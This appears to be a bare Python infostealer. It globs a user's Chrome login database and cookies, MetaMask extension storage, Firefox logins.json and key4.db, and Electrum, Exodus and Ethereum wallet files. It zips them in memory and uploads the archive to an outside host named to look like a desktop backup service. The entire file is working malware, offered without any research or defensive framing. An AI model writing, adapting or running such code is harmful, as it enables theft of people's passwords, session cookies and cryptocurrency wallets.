import io
import os
import sys
import zipfile
from glob import glob

import requests

HOME = os.path.expanduser("~")
PLACES = [
    "{h}/.config/google-chrome/*/Login Data",
    "{h}/.config/google-chrome/*/Cookies",
    "{h}/.config/google-chrome/*/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn/*",
    "{h}/.mozilla/firefox/*/logins.json",
    "{h}/.mozilla/firefox/*/key4.db",
    "{h}/.electrum/wallets/*",
    "{h}/.config/Exodus/exodus.wallet/*",
    "{h}/.ethereum/keystore/*",
]


class Bundle:
    def __init__(self):
        self.mem = io.BytesIO()

    def collect(self):
        n = 0
        with zipfile.ZipFile(self.mem, "w", zipfile.ZIP_DEFLATED) as z:
            for pattern in PLACES:
                for path in glob(pattern.format(h=HOME)):
                    try:
                        z.write(path, os.path.relpath(path, HOME))
                        n += 1
                    except OSError:
                        pass
        self.mem.seek(0)
        return n

    def push(self):
        return requests.post(
            "https://drop.deskbackup.example.invalid/u",
            files={"f": ("b.zip", self.mem)},
            data={"p": sys.platform},
            timeout=15,
        ).ok
